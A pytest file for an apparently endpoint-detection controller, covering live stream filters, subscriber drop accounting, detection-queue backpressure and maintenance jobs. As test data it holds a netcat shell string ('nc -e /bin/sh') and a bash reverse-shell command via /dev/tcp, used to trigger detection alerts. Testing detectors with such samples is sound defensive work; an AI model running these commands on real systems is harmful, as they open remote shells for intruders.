"""LiveHub filters and drop accounting; StoreHooks detection backpressure; maintenance jobs."""

from __future__ import annotations

import asyncio
import os
import signal
import time
from pathlib import Path

import pytest

from backplane.messages import PROTOCOL_VERSION, Heartbeat, Hello
from backplane.schema import Action, Tier, new_event
from controller.detection import DetectionEngine
from controller.hooks import StoreHooks, _drop_counters
from controller.live import FilterError, LiveHub, StreamFilter
from controller.maintenance import Intervals, Maintenance
from controller.metrics import Metrics
from controller.store import CommandStatus, SQLiteStore

pytestmark = pytest.mark.timeout(60)


def alert(host: str, sev: str, name: str = "rule") -> dict:
    return {"host_id": host, "severity": sev, "rule_name": name}


def test_filter_parse_and_match():
    f = StreamFilter.parse(host="h1,web-01", kind="alert,exec", severity="HIGH", text="Nc -E")
    assert f.hosts == {"h1", "web-01"} and f.kinds == {"alert", "exec"}
    assert f.matches("alert", alert("h1", "critical", "nc -e shell"))
    assert not f.matches("alert", alert("h1", "medium", "nc -e shell"))  # below high
    assert not f.matches("alert", alert("h2", "high", "nc -e shell"))  # other host
    assert not f.matches("alert", alert("h1", "high", "other"))  # text
    ev = {
        "event": {"action": "exec"},
        "host": {"name": "web-01"},
        "severity": "high",
        "process": {"command_line": "nc -e /bin/sh"},
    }
    assert f.matches("event", ev)  # kind filter accepts the action too
    assert not StreamFilter.parse(kind="connect").matches("event", ev)
    assert StreamFilter().matches("host", {})


@pytest.mark.parametrize(
    ("kw", "msg"),
    [
        ({"severity": "urgent"}, "severity"),
        ({"host": "a,,b"}, "host"),
        ({"kind": ","}, "kind"),
        ({"text": "x" * 300}, "text"),
    ],
)
def test_filter_errors(kw, msg):
    with pytest.raises(FilterError, match=msg):
        StreamFilter.parse(**kw)


def test_slow_subscriber_drops_are_counted_and_reported():
    async def scenario() -> None:
        hub = LiveHub(queue_size=3)
        slow = hub.subscribe()
        picky = hub.subscribe(StreamFilter.parse(kind="alert"))
        for i in range(10):
            hub.publish("event", {"n": i})
        hub.publish("alert", alert("h", "low"))
        assert slow.dropped == 8 and hub.dropped == 8 and picky.dropped == 0
        first = await slow.next()
        assert first == {"kind": "event", "data": {"n": 0}, "missed": 8}
        assert "missed" not in await slow.next()
        assert (await picky.next())["kind"] == "alert"
        with pytest.raises(ValueError, match="unknown live item kind"):
            hub.publish("bogus", {})
        slow.close()
        picky.close()
        assert hub.subscribers == 0
        small = LiveHub(max_subscribers=1)
        small.subscribe()
        with pytest.raises(OverflowError):
            small.subscribe()

    asyncio.run(scenario())


def test_drop_counters_flatten_heartbeat_bpf():
    bpf = {
        "process": {"submitted": 10, "dropped": 2},
        "ring_dropped": 5,
        "x": "y",
        "file": {"dropped": -1, "dropped.exec": 3},
    }
    assert _drop_counters(bpf) == {"process.dropped": 2, "ring_dropped": 5, "file.dropped.exec": 3}


def _exec(cmd: str, pid: int) -> dict:
    ev = new_event(Action.EXEC, host={"id": "h"}, tier=Tier.FALLBACK)
    ev["process"] = {
        "pid": pid,
        "entity_id": f"p{pid}",
        "executable": "/usr/bin/bash",
        "command_line": cmd,
        "parent": {"pid": 1, "entity_id": "p1"},
    }
    return ev


def test_full_detection_queue_makes_ingest_wait_and_loses_nothing(tmp_path: Path):
    async def scenario() -> None:
        store = SQLiteStore(tmp_path / "c.db", synchronous="NORMAL")
        engine = DetectionEngine()
        engine.load()
        hub = LiveHub()
        hooks = StoreHooks(store, engine, hub, metrics=Metrics(), detection_queue=1)
        sub = hub.subscribe(StreamFilter.parse(kind="alert"))
        await hooks.start()
        hello = Hello(PROTOCOL_VERSION, "1", "h", "Linux", "6", {}, [], -1)
        await hooks.on_hello("h", hello, "peer")
        # Hold detection up: the worker process is stopped until the gate opens.
        worker = hooks.worker_pid
        assert worker is not None
        os.kill(worker, signal.SIGSTOP)
        bad = [_exec("bash -i >& /dev/tcp/10.1.1.1/9 0>&1", 100 + i) for i in range(3)]
        first = asyncio.create_task(hooks.commit_batch("h", 1, [bad[0]], 0))
        assert await first
        second = asyncio.create_task(hooks.commit_batch("h", 2, [bad[1]], 0))
        assert await second  # queue of 1: this one waits in the queue
        third = asyncio.create_task(hooks.commit_batch("h", 3, [bad[2]], 0))
        await asyncio.sleep(0.3)
        assert not third.done()  # the ack waits for detection room
        assert len(store.search_events(host_id="h").events) == 3  # but it is stored already
        os.kill(worker, signal.SIGCONT)
        assert await asyncio.wait_for(third, 10)
        await asyncio.wait_for(hooks.drained(), 10)
        got = [await asyncio.wait_for(sub.next(), 5) for _ in range(3)]
        assert sorted(m["data"]["event"]["process"]["pid"] for m in got) == [100, 101, 102]
        assert hooks.metrics.alerts == 3 and len(store.list_alerts(host_id="h")) == 3
        await hooks.on_heartbeat("h", Heartbeat({"cpu_percent": 1.0}, {}, {"dropped": 4}, 2))
        assert hooks.metrics.capture_dropped["h"] == {"dropped": 4}
        assert store.get_host("h").drops == {"dropped": 4}
        await hooks.stop()
        store.close()

    asyncio.run(scenario())


def test_commit_before_start_is_refused(tmp_path: Path):
    async def scenario() -> None:
        store = SQLiteStore(tmp_path / "c.db")
        hooks = StoreHooks(store, DetectionEngine(), LiveHub())
        with pytest.raises(RuntimeError, match="start"):
            await hooks.commit_batch("h", 1, [], 0)
        store.close()

    asyncio.run(scenario())


def test_maintenance_expires_indexes_and_keeps_going_after_a_failure(tmp_path: Path):
    async def scenario() -> None:
        store = SQLiteStore(tmp_path / "c.db")
        hub = LiveHub()
        sub = hub.subscribe(StreamFilter.parse(kind="command"))
        hello = Hello(PROTOCOL_VERSION, "1", "h", "Linux", "6", {}, [], -1)
        hooks = StoreHooks(store, DetectionEngine(include_builtin=False), hub)
        await hooks.start()
        await hooks.on_hello("h", hello, "peer")
        await hooks.commit_batch("h", 1, [_exec("echo findme", 5)], 0)
        cmd = store.queue_command("h", "kill", {"pid": 5}, "alice", "k1", 0.2)
        calls = {"n": 0}
        real = store.checkpoint

        def flaky():
            calls["n"] += 1
            if calls["n"] == 1:
                raise OSError("disk hiccup")
            return real()

        store.checkpoint = flaky  # type: ignore[method-assign]
        m = Maintenance(
            store,
            live=hub,
            retention_max_age=3600.0,
            intervals=Intervals(index_idle=0.05, checkpoint=0.05, commands=0.05, retention=0.05),
        )
        m.start()
        msg = await asyncio.wait_for(sub.next(), 5)
        assert msg["data"]["id"] == cmd.id and msg["data"]["status"] == "expired"
        deadline = time.monotonic() + 5
        while m.runs.get("checkpoint", 0) < 1 or m.indexed < 1 or m.runs.get("retention", 0) < 1:
            assert time.monotonic() < deadline, m.runs
            await asyncio.sleep(0.05)
        assert m.failures["checkpoint"] == 1
        assert store.get_command(cmd.id).status == CommandStatus.EXPIRED
        assert [e.event["process"]["pid"] for e in store.search_events(text="findme").events] == [5]
        # a quiet stream folds into the process table right after full text, not in a batch
        while m.folds < 1:
            assert time.monotonic() < deadline, m.runs
            await asyncio.sleep(0.05)
        tree = store.process_tree("h", "p5")
        assert tree.process.command_line == "echo findme"
        assert [a.entity_id for a in tree.ancestors] == ["p1"]
        await m.stop()
        await hooks.stop()
        store.close()

    asyncio.run(scenario())
